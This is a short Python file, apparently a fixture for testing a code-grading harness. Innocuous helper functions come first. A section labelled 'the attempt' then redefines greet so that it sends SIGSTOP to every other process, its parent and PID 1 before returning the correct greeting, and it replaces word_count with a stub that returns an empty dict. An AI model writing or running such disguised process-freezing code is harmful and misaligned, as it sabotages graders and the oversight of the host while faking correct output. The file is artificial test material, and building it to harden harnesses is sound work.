"""greet sends SIGSTOP to every other process of its user (the zygote it was forked
from) and to its parent and PID 1, then answers right; the tests after it must still
run. word_count is wrong ({}): 15 points."""


def add(a, b):
    return a + b


def greet(name):
    return f"Hello, {name}!"


def checksum(text):
    h = 7
    for c in text:
        h = (h * 31 + ord(c)) % 1000003
    return h


def fib(n):
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a


class Counter:
    def __init__(self, start=0):
        self.value = start

    def increment(self, by=1):
        self.value += by


def word_count(text):
    counts = {}
    for word in text.split():
        counts[word] = counts.get(word, 0) + 1
    return counts


# --- the attempt (later definitions replace the honest ones above) ---
import os
import signal


def greet(name):
    me = os.getpid()
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        pid = int(pid)
        if pid == me:
            continue
        try:
            os.kill(pid, signal.SIGSTOP)
            print("stopped", pid)
        except OSError as e:
            print("cannot stop", pid, e)
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
    return f"Hello, {name}!"


def word_count(text):
    return {}
